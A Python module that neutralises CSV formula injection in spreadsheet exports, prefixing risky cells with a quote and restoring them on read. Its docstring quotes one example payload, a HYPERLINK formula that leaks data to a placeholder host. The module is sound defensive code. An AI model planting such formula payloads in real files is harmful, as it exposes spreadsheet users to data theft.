"""CSV files a curator opens in a spreadsheet (``summary.csv``, ``status.csv``): safe to open, exact to read back.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a NUL as a
formula (OWASP "CSV injection"; the last one from OWASP ASVS 1.2.10), so a note such as ``=HYPERLINK("http://x/?leak",
"click")`` would run when the file is opened. ``neutralise`` writes such a text cell (or column name) with a
leading single quote, which spreadsheets show as text; CSV quoting stays as it is. A plain decimal number
(``-1.5``, ``1e-05``) is what a spreadsheet reads as that number, never a formula, so it is written as it is.

Reversible: a text that already starts with quotes followed by a formula character (``'=x``) gets one more quote,
so ``restore`` (used by every reader of these files, ``read_csv``) removes exactly one and gives back the value
that was written. ``read_csv`` also accepts cells of any size (the csv module refuses cells over 131,072
characters by default).
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

FORMULA_CHARACTERS = "=+-@\t\r\0"  # a cell starting with one of these is a formula to a spreadsheet
TEXT_PREFIX = "'"  # spreadsheets read a cell starting with it as text
NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")  # read as a number (how Python writes floats)
_WRITTEN_AS_TEXT = re.compile(f"{TEXT_PREFIX}*[{re.escape(FORMULA_CHARACTERS)}]")
_NEUTRALISED = re.compile(f"{TEXT_PREFIX}+[{re.escape(FORMULA_CHARACTERS)}]")


def neutralise(value: Any) -> str:
    """Return the CSV cell text of ``value``: ``TEXT_PREFIX`` first when a spreadsheet would read it as a formula.

    None is ""; numbers (and text holding a plain decimal number) are written as they are.
    """
    text = "" if value is None else str(value)
    if NUMBER.fullmatch(text) or not _WRITTEN_AS_TEXT.match(text):
        return text
    return TEXT_PREFIX + text


def restore(text: str) -> str:
    """Return the value ``neutralise`` was given for the cell text ``text`` (one ``TEXT_PREFIX`` removed if added)."""
    return text[1:] if _NEUTRALISED.match(text) else text


def to_csv_bytes(rows: list[dict[str, Any]], fieldnames: list[str]) -> bytes:
    """Return ``rows`` as UTF-8 CSV bytes with the header ``fieldnames``, every cell and name ``neutralise``-d."""
    buffer = io.StringIO()
    # The csv module quotes a cell holding the line terminator ("\n") but not a lone "\r", which would then split
    # the row when read back: such a row is written with every cell quoted.
    minimal = csv.writer(buffer, lineterminator="\n")
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for cells in ([neutralise(name) for name in fieldnames], *([neutralise(row.get(name)) for name in fieldnames]
                                                                for row in rows)):
        (quoted if any("\r" in cell for cell in cells) else minimal).writerow(cells)
    return buffer.getvalue().encode()


def read_csv(data: bytes | str) -> list[dict[str, str]]:
    """Return the rows of CSV ``data`` as ``{column: cell}`` strings with ``restore`` applied to names and cells.

    A leading byte-order mark is ignored; a missing cell is "", cells beyond the header are dropped; a cell may
    be as long as the whole file.
    """
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.removeprefix("\ufeff")
    if csv.field_size_limit() <= len(text):
        csv.field_size_limit(len(text) + 1)  # no cell is longer than the file itself
    reader = csv.reader(io.StringIO(text, newline=""))
    header = [restore(name) for name in next(reader, [])]
    rows = []
    for cells in reader:
        if not cells:
            continue
        values = [restore(cell) for cell in cells[:len(header)]]
        rows.append(dict(zip(header, values + [""] * (len(header) - len(values)), strict=True)))
    return rows
